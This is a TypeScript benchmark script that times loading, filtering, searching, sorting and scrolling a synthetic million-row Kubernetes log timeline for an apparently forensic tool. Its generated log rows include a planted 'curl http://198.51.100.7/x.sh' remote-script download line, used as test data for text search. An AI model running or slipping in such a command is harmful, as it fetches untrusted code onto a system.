// npm run bench:timeline [-- rows] [--bundle | --raw]: builds a 1,000,000-row timeline through the real
// loader and prints load time, memory, and the time of the queries the webview asks: filters,
// free-text search and sorts by a column (first sort of every row, then sorted filters).
// By default the rows come from memory as JSONL lines (JSON.parse per line, as the bundle
// reader does, minus the disk); --bundle writes a real sealed bundle first and loads it from disk.
// --webview then opens the real webview in headless Chromium on the loaded timeline and
// prints frame intervals while it scrolls through the million rows.
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { mkdtemp, rm } from 'node:fs/promises';
import { cpus, loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { BundleWriter, newSnapshotId } from '../test/support/v1BundleWriter.js';
import { openBundle } from '../src/core/evidence/reader.js';
import { takeSnapshot } from '../src/core/snapshot.js';
import { generateLargeScenario, startKubeEmulator } from '../test/emulators/kube/index.js';
import { loadLocalTimeline, type TableSource } from '../src/core/timeline/local.js';
import { emptyFilter, type TimelineFilter } from '../src/core/timeline/filter.js';
import { clusterEvents, containerLogs, podInventory, type TableName } from '../src/core/schema/tables.js';
import { SORT_COLUMNS, TL, type SortColumn } from '../src/core/schema/timeline.js';

const fromDisk = process.argv.includes('--bundle');
// --raw: a format-2 bundle collected from the Kubernetes API emulator; its log rows are derived
// from the raw streams while the timeline loads (the path a responder's bundle takes).
const fromRaw = process.argv.includes('--raw');
const withWebview = process.argv.includes('--webview');
const total = Number(process.argv.slice(2).find((a) => /^\d+$/.test(a)) ?? 1_000_000);
// A real gc() for the heap figures, without asking for --expose-gc on the command line.
setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;
const RUNS = 7;

/** Rows shaped like a busy cluster: 40 namespaces × 25 pods × 2 containers, mostly log lines. */
function* rowsFor(table: TableName, count: number, salt: number): Generator<Record<string, unknown>> {
  const base = Date.parse('2026-01-01T00:00:00Z');
  for (let i = 0; i < count; i++) {
    const k = (i * 7919 + salt) % 2000;
    const t = new Date(base + ((i * 2654435761) % 86_400_000)).toISOString().replace('Z', '0000Z');
    const summary = `GET /api/v1/items/${i} 200 ${k % 17 === 0 ? 'curl http://198.51.100.7/x.sh' : 'ok'}`;
    yield {
      TimeGenerated: t, EventTime: t, RecordId: `${table}:${salt}:${i}`, SnapshotId: 's', Cluster: 'aks-prod',
      EventType: table === containerLogs.name ? 'LogLine' : 'Warning', Namespace: `ns-${k % 40}`, PodName: `pod-${k % 1000}`,
      ContainerName: `c-${k % 2}`, Summary: summary, Severity: k % 97 === 0 ? 'high' : '', TechniqueId: '',
      Message: summary, LineNumber: i, Previous: false, ContainerKind: 'container', Image: `registry.example.com/team/app-${k % 50}:1.${k % 7}.0`,
      NodeName: `aks-nodepool1-12345678-vmss00000${k % 8}`, TimestampParsed: true, NonUtf8: false,
    };
  }
}

const shares: [TableName, number][] = [[containerLogs.name, 0.9], [clusterEvents.name, 0.07], [podInventory.name, 0.03]];
async function writeBundle(): Promise<string> {
  const parent = await mkdtemp(join(tmpdir(), 'kfs-bench-timeline-'));
  const w = await BundleWriter.create(parent, {
    snapshotId: newSnapshotId(new Date()),
    cluster: { context: 'bench', cluster: 'aks-prod', server: 'https://127.0.0.1:1', user: 'u', identity: null },
    startedAt: new Date().toISOString(),
    options: { artifacts: ['containerLogs', 'events', 'podInventory'], sinceSeconds: 86400, excludeNamespaces: [], concurrency: 1, execEnabled: false },
    toolVersion: 'bench',
  });
  for (const [t, share] of shares) for (const r of rowsFor(t, Math.round(total * share), share * 100)) await w.write(t, r as never);
  await w.seal({ status: 'complete', endedAt: new Date().toISOString(), artifacts: {} });
  return w.dir;
}

/** Collects `total` log lines (1,000 per container, 2 containers a pod) into a format-2 bundle. */
async function collectRawBundle(): Promise<string> {
  const emulator = await startKubeEmulator({ scenario: generateLargeScenario({ pods: Math.max(1, Math.round(total / 2000)), containersPerPod: 2, linesPerContainer: 1000 }) });
  try {
    const parent = await mkdtemp(join(tmpdir(), 'kfs-bench-timeline-raw-'));
    await emulator.writeKubeconfig(join(parent, 'kubeconfig.yaml'));
    const { bundleDir } = await takeSnapshot({ kubeconfig: join(parent, 'kubeconfig.yaml'), outDir: parent, options: { artifacts: ['events', 'podInventory', 'containerLogs'] } }, { signal: new AbortController().signal });
    return bundleDir;
  } finally {
    await emulator.close();
  }
}

let source: TableSource;
let generated: Map<TableName, string[]> | undefined;
let bundleDir: string | undefined;
let heapBefore: number;
if (fromRaw) {
  const t = performance.now();
  bundleDir = await collectRawBundle();
  console.log(`(collected the bundle in ${Math.round(performance.now() - t)} ms: ${bundleDir})`);
  gc();
  heapBefore = process.memoryUsage().heapUsed;
  source = await openBundle(bundleDir);
} else if (fromDisk) {
  const t = performance.now();
  bundleDir = await writeBundle();
  console.log(`(wrote the bundle in ${Math.round(performance.now() - t)} ms: ${bundleDir})`);
  gc();
  heapBefore = process.memoryUsage().heapUsed;
  source = await openBundle(bundleDir);
} else {
  gc();
  heapBefore = process.memoryUsage().heapUsed;
  const lines = new Map(shares.map(([t, share]) => [t, Array.from(rowsFor(t, Math.round(total * share), share * 100), (r) => JSON.stringify(r))]));
  generated = lines;
  source = {
    readTable: <T extends TableName>(table: T) =>
      (async function* () {
        for (const line of lines.get(table) ?? []) yield JSON.parse(line) as never;
      })(),
  };
}

function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)];
}

/** Runs a fresh filter each time (the engine caches the last few filters, which scrolling reuses). */
function timeIt(make: (run: number) => TimelineFilter, fn: (f: TimelineFilter) => unknown): number {
  const times: number[] = [];
  for (let run = 0; run < RUNS; run++) {
    const f = make(run);
    const t0 = performance.now();
    fn(f);
    times.push(performance.now() - t0);
  }
  return median(times);
}

console.log(`(load average before loading: ${loadavg().map((x) => x.toFixed(1)).join(' ')} on ${cpus().length} cores)`);
const t0 = performance.now();
const cpu0 = process.cpuUsage();
const tl = await loadLocalTimeline(source);
const loadMs = performance.now() - t0;
// CPU time of the load: on a shared machine wall time mostly measures the other processes.
const cpu = process.cpuUsage(cpu0);
const loadCpuMs = (cpu.user + cpu.system) / 1000;
generated?.clear();
gc();
const heapAfter = process.memoryUsage().heapUsed;

const window = { offset: 0, limit: 200 };
const realContainers = fromRaw ? tl.facets().containers : [];
const container = (run: number): TimelineFilter =>
  fromRaw
    ? { ...emptyFilter(), containers: [realContainers[(run * 37) % realContainers.length]!].map((c) => ({ namespace: c.namespace, pod: c.pod, container: c.container })) }
    : { ...emptyFilter(), containers: [{ namespace: `ns-${run % 40}`, pod: `pod-${run * 40 + (run % 40)}`, container: `c-${run % 2}` }] };
let t1 = performance.now();
tl.query({ ...emptyFilter(), text: 'CURL http' }, window);
const firstTextFilterMs = performance.now() - t1;
t1 = performance.now();
tl.facets();
const facetsMs = performance.now() - t1;
/** The first sort by a column of every row (the engine keeps the column's order for the next ones): wall and CPU time. */
const firstSortMs = (column: SortColumn, descending = false): string => {
  const t = performance.now();
  const c = process.cpuUsage();
  tl.query(emptyFilter(), { offset: 0, limit: 200, sort: { column, descending } });
  const cpu = process.cpuUsage(c);
  return `${(performance.now() - t).toFixed(1)} ms (CPU ${((cpu.user + cpu.system) / 1000).toFixed(1)} ms)`;
};
// Every sortable column, first sort of all rows (the text columns are ordered as they are read:
// the jump figures below are the cost of windows elsewhere in that order).
const sorts: Record<string, number | string> = Object.fromEntries(SORT_COLUMNS.map((c) => [`sort${c}FirstMs`, firstSortMs(c)]));
sorts.sortTimeDescMs = firstSortMs(TL.Time, true);
/** A window at a spread of places in the column's order (a scrollbar jump), median over the runs. */
const jump = (column: SortColumn): number => {
  let run = 0;
  return timeIt(() => emptyFilter(), (f) => tl.query(f, { offset: (++run * 7_919_111) % Math.max(1, tl.size - 200), limit: 200, sort: { column, descending: false } }));
};
sorts.sortSummaryJumpMs = jump(TL.Summary);
sorts.sortRecordIdJumpMs = jump(TL.RecordId);
const results = {
  source: fromRaw ? 'format-2 bundle (log rows derived from raw/)' : fromDisk ? 'bundle on disk' : 'JSONL lines in memory',
  rows: tl.size,
  loadMs: Math.round(loadMs),
  loadCpuMs: Math.round(loadCpuMs),
  heapMiB: Math.round((heapAfter - heapBefore) / 1048576),
  rssMiB: Math.round(process.memoryUsage().rss / 1048576),
  containerFilterMs: timeIt(container, (f) => tl.query(f, window)),
  containerTotal: tl.query(container(0), window).total,
  namespaceFilterMs: timeIt((run) => ({ ...emptyFilter(), namespaces: [`ns-${run}`] }), (f) => tl.query(f, window)),
  // The first text query also lowercases every Summary once; later ones reuse that.
  firstTextFilterMs,
  textFilterMs: timeIt((run) => ({ ...emptyFilter(), text: `items/${run}3` }), (f) => tl.query(f, window)),
  textInContainerMs: timeIt((run) => ({ ...container(run), text: `items/${run}` }), (f) => tl.query(f, window)),
  scrollWindowMs: timeIt(() => container(1), (f) => tl.query(f, { offset: 500, limit: 200 })),
  deepWindowNoFilterMs: timeIt(() => emptyFilter(), (f) => tl.query(f, { offset: total - 200, limit: 200 })),
  histogramAllMs: timeIt(() => emptyFilter(), (f) => tl.histogram(f, 200)),
  histogramContainerMs: timeIt(container, (f) => tl.histogram(f, 200)),
  facetsMs,
  detailsOfShownRowMs: timeIt(container, (f) => tl.row(tl.query(f, window).rows[5].RecordId)),
  ...sorts,
  // A new filter sorted by a column already sorted once: the filter, then one pass over that order.
  sortedContainerMs: timeIt(container, (f) => tl.query(f, { ...window, sort: { column: TL.Summary, descending: true } })),
  sortedTextMs: timeIt((run) => ({ ...emptyFilter(), text: `items/${run}3` }), (f) => tl.query(f, { ...window, sort: { column: TL.Namespace, descending: false } })),
  // The grid's default view: multi-line entries grouped (one pass over the matches per new filter).
  entriesViewMs: timeIt((run) => ({ ...emptyFilter(), namespaces: [`ns-${run}`, `ns-${run + 1}`, 'bench-1'] }), (f) => tl.query(f, { ...window, entries: { expanded: [] } })),
  entriesViewAllMs: timeIt((run) => ({ ...emptyFilter(), from: `200${run}-01-01T00:00:00Z` }), (f) => tl.query(f, { ...window, entries: { expanded: [] } })),
  detailsColdLookupMs: timeIt(() => emptyFilter(), (_f) => tl.row(`${containerLogs.name}:90:${Math.floor(total * 0.8)}`)),
};
// Memory after every query above, the text caches and the sort orders included (after a full GC,
// so taken last: a GC earlier would spare the sorts the collections a user's session pays for).
gc();
const end = process.memoryUsage();
Object.assign(results, { heapAtEndMiB: Math.round((end.heapUsed - heapBefore) / 1048576), arrayBuffersAtEndMiB: Math.round(end.arrayBuffers / 1048576) });
for (const [k, v] of Object.entries(results)) console.log(`${k.padEnd(22)} ${typeof v === 'number' && !Number.isInteger(v) ? v.toFixed(2) : v}`);
console.log(`(load average after: ${loadavg().map((x) => x.toFixed(1)).join(' ')})`);
if (bundleDir) await rm(bundleDir, { recursive: true, force: true });

if (withWebview) {
  const { FakeHost, launchChromium, openTimeline, serve } = await import('../test/webview/harness.js');
  const [browser, served] = await Promise.all([launchChromium(), serve()]);
  try {
    const { page } = await openTimeline(browser, served, new FakeHost(tl));
    await page.locator('.kfs-status', { hasText: `${tl.size.toLocaleString('en-US')} of` }).waitFor();
    // Scroll continuously for 3 s (10 rows a frame), then jump to random places; the page
    // records the interval between animation frames and how long each scroll's render took.
    const figures = await page.evaluate(async () => {
      const scroller = document.querySelector<HTMLElement>('.kfs-scroller')!;
      const frames: number[] = [];
      const jumps: number[] = [];
      let last = performance.now();
      const end = last + 3000;
      while (performance.now() < end) {
        scroller.scrollTop += 220;
        await new Promise(requestAnimationFrame);
        const now = performance.now();
        frames.push(now - last);
        last = now;
      }
      for (let i = 0; i < 20; i++) {
        scroller.scrollTop = Math.random() * (scroller.scrollHeight - scroller.clientHeight);
        const t = performance.now();
        // The render runs on the next frame; then wait until the rows hold data (a round trip to the host).
        await new Promise(requestAnimationFrame);
        await new Promise(requestAnimationFrame);
        while (document.querySelector('.kfs-data-row.kfs-loading')) await new Promise(requestAnimationFrame);
        jumps.push(performance.now() - t);
      }
      const dom = document.querySelectorAll('.kfs-data-row').length;
      return { frames, jumps, dom };
    });
    const pct = (xs: number[], p: number) => [...xs].sort((a, b) => a - b)[Math.min(xs.length - 1, Math.floor(xs.length * p))];
    console.log(`webviewScrollFrames    ${figures.frames.length} frames in 3 s; frame interval median ${pct(figures.frames, 0.5).toFixed(1)} ms, p95 ${pct(figures.frames, 0.95).toFixed(1)} ms`);
    console.log(`webviewJumpToDataMs   median ${pct(figures.jumps, 0.5).toFixed(1)}, p95 ${pct(figures.jumps, 0.95).toFixed(1)} (random jump until the rows hold data)`);
    console.log(`webviewRowsInDom       ${figures.dom}`);
  } finally {
    await browser.close();
    await served.close();
  }
}
